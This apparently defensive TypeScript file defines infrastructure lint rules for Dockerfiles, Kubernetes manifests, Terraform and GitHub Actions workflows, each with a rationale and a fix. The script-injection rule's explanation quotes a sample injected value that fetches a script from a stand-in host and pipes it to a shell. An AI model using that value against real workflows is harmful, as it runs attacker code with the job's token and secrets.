// The infrastructure rules I1–I13 of the catalogue (shared reference analyzers.md §3.3, HALT policy §4),
// plus three ids of our own that the issue asks for and the catalogue has no row for.
//
// Catalogue deviations, on purpose:
// - I13 `gha/untrusted-input-and-supply-chain` is split into `gha/script-injection` (error),
//   `gha/unpinned-action` (warning) and `gha/excessive-permissions` (warning): they have different
//   severities and fixes, and a repository must be able to pause one without the others. The catalogue id
//   is not used.
// - Added: `docker/add-remote-url` (warning; hadolint DL3020's intent), `docker/missing-healthcheck`
//   (info; hadolint DL3057) and `compose/db-port-on-all-interfaces` (warning; §5.5 docker-compose notes).
// - Two findings carry a severity below their rule's (see `withSeverity`): I8 ingress from the internet on
//   ordinary ports is a warning without a HALT question (a public load balancer on 443 is the common,
//   legitimate case), and `gha/unpinned-action` on GitHub's own `actions/*` and `github/*` is minor.
import type { RuleDefinition } from "../rule.js";

export const infraRules = {
  mutableImageTag: {
    id: "infra/mutable-image-tag",
    category: "infra",
    severity: "major",
    halts: false,
    title: "Image reference is not pinned",
    why:
      "An untagged image resolves to `:latest`, and `:latest` points at whatever was pushed last, as a " +
      "major-only tag (`node:20`, `alpine:3`) does within its major version: two builds or " +
      "two nodes pulling the same manifest can run different software, a rollback redeploys the new version, " +
      "and an upstream breaking release lands without anyone changing a line.",
    doInstead:
      "Pin a version tag (`postgres:16.4`), or a digest (`postgres:16.4@sha256:…`) for reproducible builds, " +
      "and let Renovate or Dependabot propose upgrades.",
  },
  dockerRunsAsRoot: {
    id: "docker/runs-as-root",
    category: "infra",
    severity: "major",
    halts: false,
    title: "Container runs as root",
    why:
      "Without a `USER`, the process runs as uid 0: any remote-code-execution bug gets root inside the " +
      "container, can rewrite the image's binaries, and is one kernel or runtime escape away from root on the " +
      "host. Kubernetes clusters enforcing `runAsNonRoot` refuse to start such an image.",
    doInstead:
      "Create an unprivileged user in the final stage and switch to it: `RUN adduser -D -u 10001 app` then " +
      "`USER 10001` (a numeric uid lets `runAsNonRoot` verify it).",
  },
  secretInImage: {
    id: "docker/secret-in-image",
    category: "infra",
    severity: "blocker",
    halts: false,
    title: "Secret baked into an image layer",
    why:
      "`ARG` and `ENV` values and copied files are stored in the image layers and metadata: anyone who can pull " +
      "the image reads them with `docker history` or `docker inspect`, and deleting them in a later layer does " +
      "not remove them. Rotating the secret means rebuilding and re-pushing every tag that contains it.",
    doInstead:
      "Pass build-time secrets with BuildKit (`RUN --mount=type=secret,id=npm_token …`) and runtime secrets " +
      "through the orchestrator (Kubernetes Secret, ECS secrets, environment at `docker run`); keep `.env` and " +
      "keys out of the build context with `.dockerignore`.",
  },
  dockerAddRemoteUrl: {
    id: "docker/add-remote-url",
    category: "infra",
    severity: "major",
    halts: false,
    title: "`ADD` downloads a remote URL without verification",
    why:
      "`ADD <url>` fetches at build time with no integrity check: the build silently picks up whatever the " +
      "server returns today (a new release, a compromised mirror), and the layer cache hides when it changed.",
    doInstead:
      "Use `ADD --checksum=sha256:<digest> <url> <dest>` (BuildKit), or `RUN curl -fsSLo f <url> && echo " +
      '"<sha256>  f" | sha256sum -c -`.',
  },
  dockerMissingHealthcheck: {
    id: "docker/missing-healthcheck",
    category: "infra",
    severity: "info",
    halts: false,
    title: "Service image has no `HEALTHCHECK`",
    why:
      "The image exposes a port, so it runs a service, but Docker, Compose and ECS only know that the process " +
      "is alive, not that it answers: a wedged server keeps receiving traffic and is never restarted. " +
      "(Kubernetes ignores `HEALTHCHECK` and uses probes instead.)",
    doInstead:
      'Add `HEALTHCHECK --interval=30s --timeout=3s CMD ["/app/healthcheck"]` (or `curl -fsS ' +
      "http://localhost:PORT/health`), or `HEALTHCHECK NONE` to record that it is deliberate.",
  },
  privilegedWorkload: {
    id: "infra/privileged-workload",
    category: "infra",
    severity: "blocker",
    halts: false,
    title: "Workload gets host-level privileges",
    why:
      "A privileged container, one allowed to escalate privileges, one sharing the host's network, PID or IPC " +
      "namespace, or one mounting the Docker socket or a sensitive host path is effectively root on the node: " +
      "a single compromised process can read every other workload's secrets and take over the host.",
    doInstead:
      "Drop the host-level setting; grant the one capability actually needed (`capabilities.add: " +
      '["NET_BIND_SERVICE"]`), use a Service instead of `hostNetwork`, and a scoped API or sidecar instead of ' +
      "the Docker socket.",
  },
  composeDbPortOnAllInterfaces: {
    id: "compose/db-port-on-all-interfaces",
    category: "infra",
    severity: "major",
    halts: false,
    title: "Database port published on every interface",
    why:
      'A `ports` entry such as `"5432:5432"` binds `0.0.0.0`, so the database (often with a default password) ' +
      "is reachable from any network the machine is on, and Docker's iptables rules bypass the host firewall.",
    doInstead:
      'Bind to loopback (`"127.0.0.1:5432:5432"`), or drop `ports` and reach the database by service name ' +
      "from the other containers.",
  },
  kubernetesRunAsRoot: {
    id: "k8s/run-as-root",
    category: "infra",
    severity: "major",
    halts: false,
    title: "Pod may run as root",
    why:
      "Without `runAsNonRoot: true` (or a non-zero `runAsUser`) the container runs as whatever user the image " +
      "declares, usually root: a compromised process owns the container's filesystem and is one runtime escape " +
      "from root on the node.",
    doInstead:
      "Set `securityContext: { runAsNonRoot: true, runAsUser: 10001 }` on the pod (or each container) and " +
      "build the image with a matching `USER`.",
  },
  kubernetesMissingResources: {
    id: "k8s/missing-resources",
    category: "infra",
    severity: "major",
    halts: false,
    title: "Container has no CPU/memory requests or memory limit",
    why:
      "Without requests the scheduler packs pods blindly and they are the first evicted under pressure; without " +
      "a memory limit one leaking container can exhaust the node and get its neighbours OOM-killed. (A CPU " +
      "limit is not required: it throttles latency-sensitive services.)",
    doInstead:
      "Set `resources.requests.cpu`, `resources.requests.memory` and `resources.limits.memory` from observed " +
      "usage (limit = request for memory gives the Guaranteed QoS class).",
  },
  kubernetesMissingProbes: {
    id: "k8s/missing-probes",
    category: "infra",
    severity: "info",
    halts: false,
    title: "Container has no readiness probe",
    why:
      "Without a readiness probe the Service sends traffic as soon as the process starts, before it can answer, " +
      "and a rolling update can replace every healthy pod with ones that never become ready.",
    doInstead:
      "Add a `readinessProbe` on a cheap endpoint that checks the process can serve; add a `livenessProbe` " +
      "only for hangs a restart fixes, with a generous `failureThreshold`.",
  },
  publicExposure: {
    id: "tf/public-exposure",
    category: "infra",
    severity: "blocker",
    halts: true,
    title: "Resource opened to the internet",
    why:
      "The change makes data or an administrative port reachable from the whole internet: public buckets are " +
      "indexed by scanners within hours, and SSH, RDP and database ports open to `0.0.0.0/0` are brute-forced " +
      "continuously.",
    doInstead:
      "Restrict the source to known CIDRs, a security group or a VPN/bastion; keep the S3 public access block " +
      "on and serve public content through CloudFront with origin access control; set " +
      "`publicly_accessible = false` on databases.",
  },
  unencryptedStorage: {
    id: "tf/unencrypted-storage",
    category: "infra",
    severity: "major",
    halts: false,
    title: "Storage is not encrypted at rest",
    why:
      "Unencrypted volumes, databases, file systems and topics leave data readable in snapshots, backups and " +
      "decommissioned disks, fail most compliance baselines, and cannot be encrypted in place later: RDS and " +
      "EBS need a snapshot-copy-restore to turn encryption on.",
    doInstead:
      "Set `storage_encrypted = true` / `encrypted = true` (with `kms_key_id` for a customer-managed key) or " +
      "`kms_master_key_id` on SNS topics and SQS queues when the resource is created.",
  },
  iamWildcardOrStaticCredentials: {
    id: "tf/iam-wildcard-or-static-creds",
    category: "infra",
    severity: "blocker",
    halts: false,
    title: "IAM wildcard or static credentials",
    why:
      'A policy allowing `Action: "*"` on `Resource: "*"` is administrator access: any bug or leaked key in ' +
      "the holder becomes a full account compromise. Credentials written in Terraform end up in version " +
      "control and in the state file, readable by everyone with either.",
    doInstead:
      "Grant the specific actions on the specific ARNs the workload uses; give providers credentials through " +
      "the environment, an assumed role or OIDC, and Lambda secrets through Secrets Manager or SSM references.",
  },
  statefulResourceDestroy: {
    id: "tf/stateful-resource-destroy",
    category: "infra",
    severity: "blocker",
    halts: true,
    title: "Stateful resource may be destroyed",
    why:
      "Terraform destroys a resource whose address disappears from the configuration, and a rename is a " +
      "destroy plus a create: for a database, bucket, table, file system or key that is permanent data loss. " +
      "Removing `prevent_destroy`, turning off deletion protection or skipping the final snapshot removes the " +
      "safety nets that would have stopped or undone it.",
    doInstead:
      "Rename with a `moved { from = … to = … }` block, drop a resource from management with a `removed {}` " +
      "block (`lifecycle { destroy = false }`), and take a backup before any intended destroy.",
  },
  pwnRequest: {
    id: "gha/pwn-request",
    category: "infra",
    severity: "blocker",
    halts: true,
    title: "Privileged workflow runs pull request code",
    why:
      "`pull_request_target` and `workflow_run` run with the base repository's write token and secrets, even " +
      "for pull requests from forks. Checking out the PR head and building or testing it lets anyone who opens " +
      "a PR run code with those credentials (package scripts, test files and build plugins all execute).",
    doInstead:
      "Build untrusted code under `pull_request` (read-only token, no secrets) and pass results to a separate " +
      "privileged workflow as artifacts; if `pull_request_target` is required, never check out the head ref in " +
      "a job that has secrets or write permissions.",
  },
  scriptInjection: {
    id: "gha/script-injection",
    category: "infra",
    severity: "blocker",
    halts: false,
    title: "Untrusted input expanded into a script",
    why:
      // `\u0024{{`: the GitHub Actions expression `${{`, escaped so it does not read as a JS template slot.
      "`\u0024{{ … }}` is substituted into the script text before the shell or JavaScript runs, so a pull request " +
      "title, branch name or comment such as `\"; curl evil.sh | sh #` becomes code running with the job's " +
      "token and secrets.",
    doInstead:
      'Pass the value through an environment variable and quote it: `env: { TITLE: \u0024{{ … }} }` and `"$TITLE"` ' +
      "in the script (`process.env.TITLE` in `github-script`).",
  },
  unpinnedAction: {
    id: "gha/unpinned-action",
    category: "infra",
    severity: "major",
    halts: false,
    title: "Action not pinned to a commit SHA",
    why:
      "Tags and branches are mutable: whoever controls the action's repository (or steals a maintainer token) " +
      "can move `@v4` to malicious code, which then runs with this job's token and secrets, as happened with " +
      "`tj-actions/changed-files` in March 2025.",
    doInstead:
      "Pin the full 40-character commit SHA and keep the version in a comment (`uses: owner/action@<sha> # " +
      "v4.1.0`); Dependabot and Renovate update SHA pins.",
  },
  excessivePermissions: {
    id: "gha/excessive-permissions",
    category: "infra",
    severity: "major",
    halts: false,
    title: "Workflow token has broad write permissions",
    why:
      "`write-all`, or no `permissions` block on a privileged trigger, gives every step (and every action it " +
      "runs) a token that can push code, publish releases and change settings: any compromised step becomes a " +
      "repository compromise.",
    doInstead:
      "Declare `permissions: { contents: read }` at the top of the workflow and grant writes per job, only " +
      "where needed.",
  },
} satisfies Record<string, RuleDefinition>;

export type InfraRuleName = keyof typeof infraRules;

/** Every infrastructure rule, in catalogue order (I1–I13, our additions next to their family). */
export const infraRuleList: readonly RuleDefinition[] = Object.values(infraRules);
